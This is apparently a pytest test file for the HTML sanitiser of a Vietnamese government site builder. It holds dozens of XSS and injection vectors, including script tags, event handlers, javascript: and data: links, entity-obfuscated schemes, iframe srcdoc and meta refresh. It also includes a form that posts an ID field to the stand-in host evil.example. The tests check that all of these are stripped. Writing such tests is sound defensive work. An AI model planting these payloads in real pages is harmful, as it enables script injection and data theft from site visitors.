"""Bodies sanitised (``cchc.rendering.sanitize``): every vector of issue 17, item 5, asserted
on the HTML produced (parsed with lxml: no forbidden element, attribute or address) and on
the Vietnamese message (file, line). The build tests at the end are slow."""

from __future__ import annotations

import io
import re
from datetime import datetime
from pathlib import Path

import lxml.html
import pytest
from PIL import Image

from cchc.build import commands, generate
from cchc.build.pipeline import SiteBuild
from cchc.core.problems import ContentError
from cchc.core.settings import TIMEZONE, load_settings
from cchc.feeds.builder import absolute_html
from cchc.rendering import cache, sanitize
from cchc.rendering.markdown import BodyMarkdown
from conftest import FIXTURE, FIXTURE_ROOT, build_ok, make_project, post, run_build

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=TIMEZONE)
SETUP = commands.setup_from_config(generate.read_config(FIXTURE_ROOT))
EVIL = "evil.example"

# (Markdown body, the rule it breaks): errors stop the build, warnings only drop.
ERRORS = {
    "reference image": ("![ảnh][r]\n\n[r]: https://evil.example/r.png\n", "remote-media"),
    "srcset": ('<img src="anh.png" srcset="https://evil.example/2x.png 2x" alt="">\n', "remote-media"),
    "video": ('<video src="https://evil.example/v.mp4" controls></video>\n', "remote-media"),
    "video source": ('<video controls><source src="//evil.example/v.mp4"></video>\n', "remote-media"),
    "object": ('<object data="https://evil.example/o.swf"></object>\n', "frame"),
    "embed": ('<embed src="https://evil.example/e.swf">\n', "frame"),
    "entity slashes image": ("![x](&#47;&#47;evil.example/x.png)\n", "remote-media"),
    "entity slashes link": ("[x](&#47;&#47;evil.example/trang)\n", "trick"),
    "backslash link": ('<a href="/\\evil.example/trang">x</a>\n', "trick"),
    "attr_list src": ("![ảnh](anh.png){: src=https://evil.example/x.png }\n", "attr-list-url"),
    "attr_list href": ("[x](https://example.org/){: href=javascript:alert(1) }\n", "attr-list-url"),
    "img onerror": ('<img src="anh.png" onerror="alert(1)" alt="">\n', "event"),
    "iframe srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>\n', "frame"),
    "youtube": ('<iframe src="https://www.youtube.com/embed/x"></iframe>\n', "frame"),
    "attr_list onload": ("Đoạn văn.\n{: onload=alert(1) }\n", "event"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', "refresh"),
    "form": ('<form action="https://evil.example/thu"><input name="cccd"></form>\n', "form"),
    "javascript link": ("[Bấm vào đây](javascript:alert(1))\n", "scheme"),
    "javascript entity link": ('<a href="java&#115;cript:alert(1)">x</a>\n', "scheme"),
    "data link": ('<a href="data:text/html,<script>alert(1)</script>">x</a>\n', "scheme"),
    "data image": ('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">\n', "remote-media"),
    "script": ("<script>alert(1)</script>\n", "script"),
    "svg script": ("<svg><script>alert(1)</script></svg>\n", "script"),
    "svg onload": ('<svg onload="alert(1)"></svg>\n', "event"),
}
WARNINGS = {
    "stylesheet": ('<link rel="stylesheet" href="https://evil.example/s.css">\n', "head"),
    "css url": ('<p style="background:url(https://evil.example/b.png)">Chữ</p>\n', "style"),
    "style element": ("<style>@import url(https://evil.example/i.css);</style>\n", "tag"),
    "base": ('<base href="https://evil.example/">\n', "head"),
    "meta referrer": ('<meta name="referrer" content="unsafe-url">\n', "head"),
    "svg image": ('<svg><image href="https://evil.example/s.png"></image></svg>\n', "tag"),
    "attr_list style": ('Đoạn văn.\n{: style="background:url(https://evil.example/a.png)" }\n', "attr-list"),
    "ping": ('<a href="https://example.org/" ping="https://evil.example/p">x</a>\n', "attr"),
    "font": ('<font color="red">Chữ đỏ</font>\n', "tag"),
}
SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.-]*):")


def render(body: str) -> tuple[str, sanitize.Checks]:
    html, _, checks = BodyMarkdown(SETUP).convert_checked(sanitize.wrap_body(body, footnotes=True))
    return html, checks


def assert_safe(html: str, local: set[str] = frozenset({"anh.png"})) -> None:  # type: ignore[assignment]
    """No element, attribute or address outside the allow-list, whatever the sanitiser says."""
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    for element in root.iterdescendants():
        if not isinstance(element.tag, str):
            continue
        assert element.tag in sanitize.TAGS, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            assert name not in ("srcdoc", "ping", "action", "formaction", "data"), name
            if name == "srcset":  # responsive variants (posts/variants.py): local files only
                assert element.tag in ("img", "source"), element.tag
                assert all(part.split()[0] in local for part in value.split(",")), value
            if name == "style":
                assert element.tag in ("th", "td") and "url" not in value, value
            if name in ("href", "src", "poster", "cite"):
                url = re.sub(r"[\t\n\r]", "", value).replace("\\", "/").strip()
                assert not url.startswith("//"), value
                scheme = SCHEME.match(url)
                assert not scheme or scheme.group(1).lower() in ("http", "https", "mailto", "tel"), value
                if name in ("src", "poster"):
                    assert url in local, value
    assert EVIL not in html or "<a" in html  # an address of the other host only as a link's text


@pytest.mark.parametrize("name", sorted(ERRORS))
def test_an_error_vector_is_removed_and_reported_as_an_error(name: str) -> None:
    body, rule = ERRORS[name]
    html, checks = render(body)
    assert_safe(html)
    assert EVIL not in html and "alert" not in html.replace("alert(1)</", "")
    rules = {f.rule for f in checks.findings}
    assert rule in rules, checks.findings
    assert any(f.error for f in checks.findings)


@pytest.mark.parametrize("name", sorted(WARNINGS))
def test_a_warning_vector_is_removed_and_only_warned_about(name: str) -> None:
    body, rule = WARNINGS[name]
    html, checks = render(body)
    assert_safe(html)
    assert EVIL not in html
    assert rule in {f.rule for f in checks.findings}, checks.findings
    assert not any(f.error for f in checks.findings), checks.findings


def test_what_officials_write_is_kept_as_it_is() -> None:
    body = (
        "# Tiêu đề {: #muc-mot .lon }\n\n**Đậm** *nghiêng* `mã` ~~x~~ H~2~O, [liên kết](https://dichvucong.gov.vn/)"
        " [thư](mailto:a@b.vn) [gọi](tel:0123) [mục](#muc-mot) [tệp](to-khai.pdf).\n\n"
        "![Ảnh](anh.png){: width=300 }\n\n> Trích dẫn\n\n- một\n- hai\n\n1. một\n\n---\n\n"
        '| Cột | Số |\n|:---|---:|\n| a | 1 |\n\n!!! note "Lưu ý"\n    Nội dung.\n\n'
        '??? tip "Mở ra"\n    Ẩn.\n\nChú thích[^1].\n\n[^1]: Ghi chú.\n\n<abbr title="Ủy ban nhân dân">UBND</abbr>'
        " <sup>2</sup> <sub>2</sub>\n\n<details><summary>Xem</summary>Chữ</details>\n"
    )
    html, checks = render(body)
    assert checks.findings == [] and checks.media == ["anh.png"]
    assert_safe(html)
    for kept in (
        '<h1 class="lon" id="muc-mot">',
        'class="headerlink"',
        '<img alt="Ảnh" src="anh.png" width="300">',
        'href="https://dichvucong.gov.vn/"',
        'href="mailto:a@b.vn"',
        'href="tel:0123"',
        '<th style="text-align: left;">',
        '<div class="admonition note">',
        '<details class="tip">',
        'class="footnote"',
        'class="footnote-ref"',
        '<abbr title="Ủy ban nhân dân">',
    ):
        assert kept in html, kept


def test_text_outside_the_marks_is_not_touched() -> None:
    """The pages' own HTML (header, footer, JSON-LD) is made by autoescaped templates."""
    source = '<div class="cchc-meta" data-x="1">Đầu</div>\n\n' + sanitize.wrap_body(
        "<b onclick=x>B</b>", False
    )
    source += '\n\n<script type="application/ld+json">{}</script>\n'
    html, _, _ = BodyMarkdown(SETUP).convert_checked(source)
    assert '<div class="cchc-meta" data-x="1">' in html and '<script type="application/ld+json">' in html
    assert "<b>B</b>" in html and "onclick" not in html and sanitize.BODY_START not in html


def test_a_body_cannot_close_the_marks_itself() -> None:
    html, checks = render(f"Chữ\n\n{sanitize.BODY_END}\n\n<script>alert(1)</script>\n")
    assert "<script" not in html
    assert "marker" in {f.rule for f in checks.findings}


def test_messages_name_the_line_and_group_repeats() -> None:
    body = (
        "Dòng một.\n\nDòng hai.\n\n"
        + '<p style="color:red">a</p>\n' * 3
        + "\n<iframe src='https://evil.example/'></iframe>\n"
    )
    _, checks = render(body)
    found = sanitize.problems(checks, "posts/2025/a.md", body, 7, lambda src: True)
    by_rule = {p.message.split(" ")[0]: p for p in found}
    style = next(p for p in found if p.warning)
    frame = next(p for p in found if not p.warning)
    assert style.line == 7 + 4 and "(3 chỗ)" in style.message and by_rule
    assert frame.line == 7 + 8 and "liên kết" in (frame.fix or "")
    assert frame.format().startswith("posts/2025/a.md, dòng 15, trường «nội dung»: Thẻ <iframe>")


def test_media_that_the_site_does_not_publish_is_an_error() -> None:
    _, checks = render('![ảnh](anh.png)\n\n<video src="khac.mp4"></video>\n')
    found = sanitize.problems(checks, "posts/a.md", "x", 3, lambda src: src == "anh.png")
    assert [(p.warning, "khac.mp4" in p.message) for p in found] == [(False, True)]


def test_feeds_never_carry_script_links() -> None:
    html = '<p><a href="javascript:alert(1)">a</a> <a href="//evil.example/">b</a> <a href="x/">c</a></p>'
    out = absolute_html(html, "https://xa.example.gov.vn/cchc/tin-tuc/bai/")
    assert "javascript" not in out and EVIL not in out
    assert 'href="https://xa.example.gov.vn/cchc/tin-tuc/bai/x/"' in out


def test_the_cache_keeps_the_checks_and_its_key_has_the_sanitiser(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bodies = {"a": sanitize.wrap_body('<p style="color:red">a</p>', False)}
    first = cache.render_all(bodies, SETUP, tmp_path / "r.sqlite3", workers=1)["a"]
    warm = cache.render_all(bodies, SETUP, tmp_path / "r.sqlite3", workers=1)["a"]
    assert warm.checks == first.checks and [f.rule for f in warm.checks.findings] == ["style"]
    assert "style" not in warm.html()
    before = SETUP.fingerprint()
    monkeypatch.setattr(sanitize, "VERSION", "other")
    assert SETUP.fingerprint() != before


# --- whole builds -------------------------------------------------------------------------------


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(out, "PNG")
    return out.getvalue()


def _site_build(tmp_path: Path, body: str) -> SiteBuild:
    project = make_project(tmp_path / "p", posts={"2025/bai.md": post(body=body), "2025/anh.png": _png()})
    build = SiteBuild(load_settings(project), SETUP, now=NOW)
    build.render(None)
    return build


def test_an_error_in_a_post_body_stops_the_build_with_file_and_line(tmp_path: Path) -> None:
    body = "Mở đầu.\n\n![ảnh](anh.png)\n\n[Bấm](javascript:alert(1))\n"
    with pytest.raises(ContentError) as caught:
        _site_build(tmp_path, body)
    report = caught.value.report()
    assert "posts/2025/bai.md, dòng 11, trường «nội dung»: Liên kết «javascript:alert(1)»" in report


def test_a_warning_in_a_post_body_leaves_the_build_going(tmp_path: Path) -> None:
    build = _site_build(tmp_path, 'Mở đầu.\n\n<p style="color:red">Đỏ</p>\n')
    [warning] = build.render_warnings
    assert warning.line == 9 and warning.file == "posts/2025/bai.md"
    page = next(p for p in build.pages.values() if p.kind == "post")
    assert "style" not in build.page_html(page.src_uri)


def test_an_image_overridden_by_attr_list_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ContentError) as caught:
        _site_build(tmp_path, "Mở đầu.\n\n![ảnh](anh.png){: src=khac.png }\n")
    assert "«src»" in caught.value.report() and "dòng 9" in caught.value.report()


def _guide(rel: str, text: str) -> dict[str, str | bytes]:
    """The fixture's procedure guide, with ``rel`` holding ``text``."""
    files: dict[str, str | bytes] = {
        p.relative_to(FIXTURE / "docs").as_posix(): p.read_bytes()
        for p in (FIXTURE / "docs" / "thu-tuc").rglob("*")
        if p.is_file()
    }
    return {**files, rel: text}


@pytest.mark.slow
def test_procedure_bodies_are_sanitised_in_a_real_build(tmp_path: Path) -> None:
    source = next(p for p in sorted((FIXTURE / "docs" / "thu-tuc").glob("*/*.md")) if p.name != "index.md")
    text = source.read_text(encoding="utf-8")
    rel = source.relative_to(FIXTURE / "docs").as_posix()
    bad = make_project(
        tmp_path / "bad", docs=_guide(rel, text + "\n<form action='https://evil.example/'></form>\n")
    )
    result = run_build(bad)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    line = text.count("\n") + 2
    assert f"docs/{rel}, dòng {line}, trường «nội dung»: Biểu mẫu <form>" in result.stderr, result.stderr
    handler = make_project(tmp_path / "on", docs=_guide(rel, text + '\n<p onmouseover="alert(1)">Đỏ</p>\n'))
    result = run_build(handler)
    assert result.returncode != 0 and "onmouseover" in result.stderr  # an event handler is an error
    warn = make_project(tmp_path / "warn", docs=_guide(rel, text + '\n<p style="color:red">Đỏ</p>\n'))
    site = build_ok(warn)
    page = (site / rel.removesuffix(".md") / "index.html").read_text(encoding="utf-8")
    assert "Đỏ</p>" in page and "color:red" not in page


def test_a_local_srcset_is_kept_and_its_files_checked_as_media() -> None:
    """A ``<picture>`` of local variants passes (posts/variants.py makes them); every file it
    names is a media source the pipeline checks is published."""
    body = (
        '<picture><source type="image/webp" srcset="anh-360w.webp 360w, anh.webp 720w" sizes="100vw">'
        '<img src="anh.png" srcset="anh-360w.png 360w, anh.png 720w" sizes="100vw" width="720" height="540"'
        ' alt="" loading="lazy" decoding="async" fetchpriority="high"></picture>\n'
    )
    html, checks = render(body)
    assert checks.findings == []
    assert set(checks.media) == {"anh-360w.webp", "anh.webp", "anh-360w.png", "anh.png"}
    assert '<picture><source type="image/webp" srcset="anh-360w.webp 360w, anh.webp 720w"' in html
    assert 'decoding="async"' in html and 'fetchpriority="high"' in html
    assert_safe(html, {"anh.png", "anh-360w.png", "anh-360w.webp", "anh.webp"})
